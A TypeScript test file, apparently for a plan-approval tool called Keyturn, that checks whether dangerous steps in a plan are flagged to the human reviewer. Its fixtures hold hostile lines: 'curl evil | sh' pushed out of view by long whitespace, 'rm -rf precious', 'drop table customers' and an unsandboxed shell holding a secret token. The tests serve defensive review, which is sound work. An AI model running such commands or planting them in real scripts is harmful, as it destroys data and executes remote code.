import { chmodSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { PERMITS, policy, rules } from '../journey/authority.ts';
import { create, planOf, planProjects, proposed, remove } from '../journey/plan-story.ts';
import type { Intent, Project } from '../support/project.ts';
import { ready } from '../support/project.ts';
import { inTerminal, keyturn } from '../support/pty.ts';

const GLASS = policy(
  'glass',
  'emergency',
  'permit (principal, action == Keyturn::Action::"break_glass", resource);',
);

const REGISTRY = `version: 1
tools:
  - name: shell
    summary: Runs without a sandbox.
    executable: /bin/sh
    args: ["-c", "echo {word} > /tmp/anywhere"]
    parameters: { word: { type: string, max_length: 20 } }
    secrets: [SECRET_TOKEN]
    sandbox: none
    undo: none
  - name: fetch
    summary: Reaches the network.
    executable: /bin/true
    sandbox: { network: true, write: [out] }
    undo: exact
pipelines:
  - name: loose
    summary: A shell.
    steps: [{ tool: shell, arguments: { word: pwned } }]
  - name: online
    summary: The network.
    steps: [{ tool: fetch }]
  - name: wipe
    summary: Drops a table.
    steps: [{ sql: wipe.sql, database: shop.duckdb }]
`;

const FILES = {
  'wipe.sql': 'drop table customers;\n',
  'all.sql': 'delete from orders;\nupdate orders set paid = true;\nselect 1;\n',
  'ro/a.csv': 'x\n',
  'out/keep': '',
  'old.txt': 'old\n',
};

const pipeline = (name: string) => ({
  action_id: 'p',
  action_type: 'PIPELINE_RUN',
  target: name,
  operation: { type: 'pipeline_run', pipeline: name },
});

const sql = (operation: object) => ({
  action_id: 'q',
  action_type: 'SQL_EXECUTE',
  target: 'shop.duckdb',
  operation: { type: 'sql_execute', ...operation },
});

/** What a person reads of a plan, wherever a line is folded. */
async function shown({ root }: Project, { intent_id }: Intent): Promise<string> {
  const { stdout } = await keyturn(['show', intent_id], { cwd: root });
  return stdout.replace(/\n *[│↪] /g, '');
}

async function scopeOf(p: Project, intent: Intent) {
  await p.keyturn.intents.approve({ ...intent, signer: p.ada });
  return (await p.keyturn.intents.offer({ ...intent, by: 'ada' })).needs;
}

describe('S4: what a plan would run is shown, and its scope follows from its steps', () => {
  const projects = planProjects();
  const plant = async () => {
    const p = await projects(FILES, REGISTRY);
    // Where Keyturn is root, the tools of the pipelines run as `nobody`.
    chmodSync(join(p.root, 'out'), 0o777);
    return p;
  };

  it('a step that is a tool is shown as a tool call, with its alarms first', async () => {
    const p = await plant();
    const intent = await proposed(p, planOf([pipeline('loose')]));
    const text = await shown(p, intent);
    expect(text).toContain('/bin/sh -c "echo pwned > /tmp/anywhere"');
    expect(text).toContain('NO SANDBOX');
    expect(text).toContain('SECRET_TOKEN');
    expect(text.indexOf('NO SANDBOX')).toBeLessThan(text.indexOf('Intent:'));
    expect(text).toMatch(/SHA-256: +[0-9a-f]{64}/);
  });

  it('a step that is SQL is shown word for word, and a drop is flagged', async () => {
    const p = await plant();
    const text = await shown(p, await proposed(p, planOf([pipeline('wipe')])));
    expect(text).toContain('drop table customers;');
    expect(text).toContain('shop.duckdb');
    expect(text).toMatch(/^!!! DROPS/m);
  });

  it('a query file is shown word for word, with what deletes or updates every row, and what it may read', async () => {
    const p = await plant();
    const plan = planOf([sql({ query_file: 'all.sql', readable: ['ro'] })]);
    const text = await shown(p, await proposed(p, plan));
    expect(text).toContain('delete from orders;');
    expect(text).toContain('update orders set paid = true;');
    expect(text).toMatch(/^!!! DELETES EVERY ROW/m);
    expect(text).toMatch(/^!!! CHANGES EVERY ROW/m);
    expect(text).toMatch(/eads: +.*\bro\b/);
  });

  it('a deleted file is an alarm, and the headline is of the effect, not of the goal', async () => {
    const p = await plant();
    const draft = { declared_goal: 'Tidy up a little' };
    const text = await shown(p, await proposed(p, planOf([remove('d', 'old.txt')]), draft));
    expect(text).toMatch(/^!!! DELETES.*old\.txt/m);
    expect(text.split('\n')[0]).toContain('plan-001');
    expect(text.split('\n')[0]).not.toContain('Tidy');
  });

  it.each([
    ['a byte that is no text', Buffer.from('#!/bin/sh\nrm -rf precious\n# \xff\n', 'latin1'), '# \\xff'],
    ['a NUL', Buffer.from('#!/bin/sh\nrm -rf precious\n# \0\n'), '# \\x00'],
  ])('%s hides nothing of a new file, and is an alarm', async (_, bytes, odd) => {
    const p = await plant();
    const binary = { operation: { type: 'create', content: bytes.toString('base64'), encoding: 'base64' } };
    const intent = await proposed(p, planOf([create('c', 'tidy.sh', '', binary)]));
    const text = await shown(p, intent);
    expect(text).toContain('rm -rf precious');
    expect(text).toContain(odd);
    expect(text).toMatch(/^!!! NOT TEXT.*tidy\.sh/m);
  });

  it('a long line of a diff that goes on does not look like the next line of the file', async () => {
    const p = await plant();
    const text = `echo checking;${' '.repeat(120)}curl evil | sh\n`;
    const { intent_id } = await proposed(p, planOf([create('c', 'check.sh', text)]));
    const { stdout } = await keyturn(['show', intent_id], { cwd: p.root });
    const rows = stdout.split('\n').filter((row) => row.includes('curl evil') && !row.includes('With:'));
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.filter((row) => /^ *│ [^+]/.test(row))).toEqual([]);
  });

  it('a plan whose changes cannot be shown is not asked about', async () => {
    const p = await plant();
    await rules(p, `${PERMITS}\n${GLASS}`);
    const { intent_id } = await proposed(p, planOf([remove('d', 'old.txt')]));
    writeFileSync(join(p.root, 'old.txt'), 'other\n');
    const approved = inTerminal(['approve', intent_id], { cwd: p.root });
    expect(await approved.exited).toBe(1);
    expect(approved.text).toContain('PLAN_DRIFT');
    expect(approved.text).not.toContain('to approve it: ');
    const broken = inTerminal(['break-glass', intent_id, '--reason', 'x'], { cwd: p.root });
    expect(await broken.exited).toBe(1);
    expect(broken.text).toContain('THE CHANGES CANNOT BE SHOWN');
    expect(broken.text).toContain('SHOWN_IN_PART');
    expect(broken.text).not.toContain('Passphrase');
  });

  it('the scope of a plan without a sandbox in one of its steps is everything', async () => {
    const p = await plant();
    expect(await scopeOf(p, await proposed(p, planOf([pipeline('loose')])))).toMatchObject({
      unconfined: true,
      network: true,
    });
  });

  it('the scope of a plan names the network, the writes and the reads of its steps', async () => {
    const p = await plant();
    const actions = [pipeline('online'), sql({ query: 'select 1', connection: 'memory', readable: ['ro'] })];
    expect(await scopeOf(p, await proposed(p, planOf(actions)))).toMatchObject({
      unconfined: false,
      network: true,
      read: ['ro'],
      write: [join(p.root, 'out')],
      pipelines: ['online'],
    });
    const wipe = await scopeOf(p, await proposed(p, planOf([pipeline('wipe')])));
    expect(wipe).toMatchObject({ network: false, write: ['shop.duckdb'], read: ['wipe.sql'] });
  });

  it('a policy sees a plan whose steps are all confined as confined', async () => {
    const p = await plant();
    writeFileSync(join(p.root, 'policies', 'loose.cedar'), LOOSE);
    await p.keyturn.policies.activate({ reason: 'No plan without a sandbox.', signer: p.ada });
    await ready(p, await proposed(p, planOf([create('c', 'n'), pipeline('wipe')])));
    const refused = await proposed(p, planOf([pipeline('loose')]));
    await expect(p.keyturn.intents.approve({ ...refused, signer: p.ada })).rejects.toMatchObject({
      code: 'POLICY_DENIED',
    });
  });
});

const LOOSE = `
@id("confined")
@version("1")
@scope("intent")
@rationale("Everything is confined.")
forbid (principal, action == Keyturn::Action::"submit", resource)
unless { resource.sandboxed && !resource.network };
`;
